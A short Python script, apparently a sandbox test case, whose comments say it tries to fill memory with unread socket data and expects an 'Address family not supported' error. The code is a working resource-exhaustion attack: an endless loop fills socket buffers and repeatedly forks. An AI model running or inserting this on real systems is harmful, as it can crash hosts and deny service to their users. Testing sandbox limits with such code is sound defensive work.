# tries: to fill the machine's memory by what is sent to itself and never read
# tells: Address family not supported
import os
import socket

kept = []
while True:
    pair = socket.socketpair()
    pair[0].setblocking(False)
    kept.append(pair)
    try:
        pair[0].send(bytes(400_000))
    except BlockingIOError:
        pass
    if len(kept) == 400 and os.fork():
        kept = []
